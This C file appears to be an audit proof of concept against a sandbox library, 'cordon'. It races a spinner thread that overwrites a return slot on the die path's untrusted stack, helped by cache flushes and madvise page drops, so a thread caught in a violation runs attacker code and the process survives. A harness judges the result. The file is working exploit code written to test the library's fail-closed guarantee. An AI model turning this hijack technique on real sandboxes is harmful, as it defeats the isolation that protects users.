// Target 1, fail-open through the die path's own stack: cordon_gate_die
// (gate.S) switches to .Ldie_stack (untrusted .bss) and calls
// cordon_internal_record_death, which returns at once for a thread with no
// trusted record (or with g_recording taken), and then `ret`s through a
// slot of untrusted memory. A second thread keeps writing the address of
// its own code into that slot (.Ldie_stack_end - 8, found by decoding the
// `lea rsp, [rip + disp]` in cordon_gate_die). If the store lands between
// the `call` and the `ret`, the dying thread never reaches exit_group: the
// process keeps running after a violation was detected.
// Violation: a fresh thread calls an unregistered entry id (777).
// Judge (parent, holds the stream and the child's stdout+stderr): OPEN when
// the violation message is out and the child then exits 0 (its main thread
// ran on and printed MAIN-ALIVE).
#include <cordon/cordon.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "audit_judge.h"

extern char cordon_gate_die[];
static volatile uint64_t* g_slot;
static volatile int g_survived;

__attribute__((used)) static void survive(void) {
  g_survived = 1;
  static const char m[] = "SURVIVED: the dying thread runs attacker code after the violation\n";
  syscall(SYS_write, 1, m, sizeof m - 1);
  syscall(SYS_exit, 0);  // this thread only
  for (;;) {}
}
// Entered by `ret` with rsp 16-aligned.
extern void hijack(void);
__asm__(".text\n.globl hijack\nhijack:\n sub rsp, 8\n call survive\n ud2\n");

// g_recording (fatal.cc, untrusted .bss): record_death's `lock xadd` on it
// drains the dying thread's store buffer (its pushed return address is then
// in memory) and, with the line flushed, waits for memory: the window.
static volatile int* g_rec;
static volatile long g_madv = 1;
static uintptr_t g_tls_top;
enum { kStack = 1 << 20 };
static void* spinner(void* arg) {
  (void)arg;
  for (;;) {
    *g_slot = (uint64_t)hijack;
    if (g_rec) __asm__ volatile("clflush [%0]" ::"r"(g_rec) : "memory");
    if (g_tls_top) {
      // The dying thread's TLS (its stack's top) is a shared file mapping:
      // MADV_DONTNEED drops the page table entries, the page cache keeps
      // the bytes, and ThreadHasTrustedRecord's read of the TLS slot (after
      // the push) takes a fault.
      g_madv = syscall(SYS_madvise, g_tls_top - 16384, 16384, MADV_DONTNEED);
      *g_slot = (uint64_t)hijack;
    }
  }
  return NULL;
}
static cordon_entry g_bad;
static void* dier(void* arg) {
  (void)arg;
  cordon_call(g_bad, 0, 0, 0, 0, 0);
  return NULL;
}
static uint64_t e_nop(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a, (void)b, (void)c, (void)d, (void)e;
  return 0;
}
static int child(int argc, char** argv) {
  dup2(1, 2);
  const unsigned char* p = (const unsigned char*)cordon_gate_die;
  size_t i = 0;
  while (i < 0x200 && !(p[i] == 0x48 && p[i + 1] == 0x8d && p[i + 2] == 0x25)) i++;
  if (i == 0x200) { printf("no lea rsp\n"); return 9; }
  int32_t disp;
  memcpy(&disp, p + i + 3, 4);
  g_slot = (volatile uint64_t*)(p + i + 7 + disp) - 1;
  // argv[2]: g_recording's offset from cordon_gate_die (the attacker knows
  // its own binary: nm, see die_stack_ret_hijack.sh).
  if (argc > 2) g_rec = (volatile int*)(cordon_gate_die + strtol(argv[2], NULL, 0));
  cordon_options o;
  cordon_options_init(&o);
  o.audit_fd = AUDIT_FD;
  if (cordon_init(&o) != 0) { printf("init failed\n"); return 11; }
  cordon_register(cordon_trusted_domain(), e_nop, "nop", &g_bad);
  if (cordon_lockdown() != 0) { printf("lockdown failed\n"); return 14; }
  *g_slot = 0;  // writable from untrusted code?
  pthread_t s, d;
  pthread_create(&s, NULL, spinner, NULL);
  g_bad.id = 777;
  pthread_attr_t at;
  pthread_attr_init(&at);
  int mfd = (int)syscall(SYS_memfd_create, "st", 0);
  if (mfd < 0 || ftruncate(mfd, kStack) != 0) { printf("memfd failed\n"); return 8; }
  char* st = mmap(NULL, kStack, PROT_READ | PROT_WRITE, MAP_SHARED, mfd, 0);
  if (st == MAP_FAILED) { printf("mmap failed\n"); return 8; }
  pthread_attr_setstack(&at, st, kStack);
  g_tls_top = ((uintptr_t)st + kStack) & ~4095ul;
  pthread_create(&d, &at, dier, NULL);
  for (int k = 0; k < 200 && !g_survived; k++) usleep(10000);
  printf("madvise in the spinner: %ld\n", g_madv);
  if (!g_survived) return 3;
  printf("MAIN-ALIVE after the violation\n");
  return 0;
}
int main(int argc, char** argv) {
  int tries = argc > 1 ? atoi(argv[1]) : 20, open = 0;
  for (int t = 0; t < tries && !open; t++) {
    fflush(stdout);  // nothing of the judge's buffer in the child
    judged_run r = judge_run(child, argc, argv, 10, NULL);
    int said = strstr(r.out, "cordon:") != NULL;
    open = said && !r.timed_out && WIFEXITED(r.status) && WEXITSTATUS(r.status) == 0 &&
           strstr(r.out, "MAIN-ALIVE") != NULL;
    if (open || t == 0 || t == tries - 1) {
      printf("--- try %d\n%s", t, r.out);
      fflush(stdout);
      judge_describe(&r);
      printf("stream fatal records: %d\n", judge_count(r.stream, "\"fatal\""));
      if (getenv("DUMP")) { FILE* f = fopen(getenv("DUMP"), "w"); fwrite(r.stream, 1, r.stream_len, f); fclose(f); }
    }
  }
  printf("tries: %d\n", tries);
  printf("RESULT: %s\n", open ? "OPEN (process kept running after a detected violation)" : "held");
  return open ? 0 : 1;
}
